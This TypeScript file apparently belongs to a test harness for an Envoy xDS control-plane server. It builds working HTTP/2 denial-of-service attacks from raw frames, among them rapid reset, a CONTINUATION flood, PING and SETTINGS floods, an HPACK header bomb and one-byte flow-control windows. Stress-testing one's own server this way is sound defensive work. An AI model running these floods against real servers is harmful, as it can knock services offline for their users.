/** Attacks with HTTP/2 frames that are each allowed, or nearly so, and too many. */
import { encodeMessage } from '../../../controller/envoy/encode.js';
import { frame } from '../raw-http2.js';
import { adsPath, typeUrl } from '../xds-client.js';
import { type Attack, flood } from './attack.js';
import {
  flag,
  frameType,
  grpcHeaders,
  initialWindowSize,
  literal,
  rawFrame,
  settingsFrame,
  uint32,
} from './frames.js';

const perWrite = 1_000;

function repeated(
  bytes: Buffer,
  count = perWrite,
): { readonly bytes: Buffer; readonly count: number } {
  return { bytes: Buffer.concat(Array.from({ length: count }, () => bytes)), count };
}

/** The number of the `index`-th stream that a client opens. */
function streamNumber(index: number): number {
  return 2 * index + 1;
}

const callHeaders = grpcHeaders(adsPath.sotw);

function openCall(stream: number, block = callHeaders): Buffer {
  return rawFrame(frameType.headers, block, { flags: flag.endHeaders, stream });
}

const ping = repeated(rawFrame(frameType.ping, Buffer.alloc(8)));
const settings = repeated(settingsFrame([[initialWindowSize, 65_535]]));
const emptyData = repeated(rawFrame(frameType.data, Buffer.alloc(0), { stream: 1 }));
const priority = repeated(
  rawFrame(frameType.priority, Buffer.concat([uint32(0), Buffer.from([16])]), { stream: 3 }),
);
const windowUpdate = repeated(rawFrame(frameType.windowUpdate, uint32(1)));
const unknownFrame = repeated(rawFrame(0xfa, Buffer.alloc(16)));

const continuation = repeated(
  rawFrame(frameType.continuation, literal('x-part', 'x'.repeat(1_000)), { stream: 1 }),
  100,
);

/** A kept header of 4 kB, then 15,000 mentions of it: 60 MB once unpacked, of a frame that is allowed. */
const bombHeader = literal('cookie', 'c'.repeat(4_000), true);
const newestKept = Buffer.from([0x80 | 62]);
const bomb = Buffer.concat([
  callHeaders,
  bombHeader,
  ...Array.from({ length: 10_000 }, () => newestKept),
]);

const request = frame(
  encodeMessage('envoy.service.discovery.v3.DiscoveryRequest', {
    node: { id: 'node-00001' },
    type_url: typeUrl('cluster'),
  }),
);

const openAds = async (peer: { write(bytes: Uint8Array): Promise<void> }): Promise<void> =>
  peer.write(openCall(1));

export const frameAttacks: readonly Attack[] = [
  {
    name: 'rapid-reset',
    what: 'opens streams and takes them back at once',
    play: flood({
      again: (round) => {
        const frames = Array.from({ length: perWrite }, (_, index) => {
          const stream = streamNumber(round * perWrite + index);
          const cancel = uint32(8);
          return Buffer.concat([
            openCall(stream),
            rawFrame(frameType.resetStream, cancel, { stream }),
          ]);
        });
        return { bytes: Buffer.concat(frames), count: perWrite };
      },
    }),
  },
  {
    name: 'continuation-flood',
    what: 'headers that never end, in CONTINUATION frames',
    play: flood({
      open: (peer) => peer.write(rawFrame(frameType.headers, callHeaders, { stream: 1 })),
      again: () => continuation,
    }),
  },
  {
    name: 'ping-flood',
    what: 'PING frames, answers read',
    play: flood({ again: () => ping }),
  },
  {
    name: 'ping-flood-deaf',
    what: 'PING frames, answers never read',
    play: flood({ connect: { isDeaf: true }, again: () => ping }),
  },
  {
    name: 'settings-flood',
    what: 'SETTINGS frames, answers read',
    play: flood({ again: () => settings }),
  },
  {
    name: 'settings-flood-deaf',
    what: 'SETTINGS frames, answers never read',
    play: flood({ connect: { isDeaf: true }, again: () => settings }),
  },
  {
    name: 'empty-data-flood',
    what: 'empty DATA frames on an open stream',
    play: flood({ open: openAds, again: () => emptyData }),
  },
  {
    name: 'priority-flood',
    what: 'PRIORITY frames',
    play: flood({ again: () => priority }),
  },
  {
    name: 'window-flood',
    what: 'WINDOW_UPDATE frames of one byte',
    play: flood({ open: openAds, again: () => windowUpdate }),
  },
  {
    name: 'unknown-frame-flood',
    what: 'frames of a type that nobody knows',
    play: flood({ again: () => unknownFrame }),
  },
  {
    name: 'header-bomb',
    what: 'header blocks that unpack to a thousand times their size (HPACK)',
    play: flood({
      again: (round) => ({ bytes: openCall(streamNumber(round), bomb), count: 1 }),
    }),
  },
  {
    name: 'one-byte-windows',
    what: 'asks for everything, takes one byte at a time',
    play: flood({
      connect: { settings: settingsFrame([[initialWindowSize, 1]]) },
      open: (peer) =>
        peer.write(Buffer.concat([openCall(1), rawFrame(frameType.data, request, { stream: 1 })])),
      again: () => repeated(rawFrame(frameType.windowUpdate, uint32(1), { stream: 1 }), 100),
    }),
  },
];
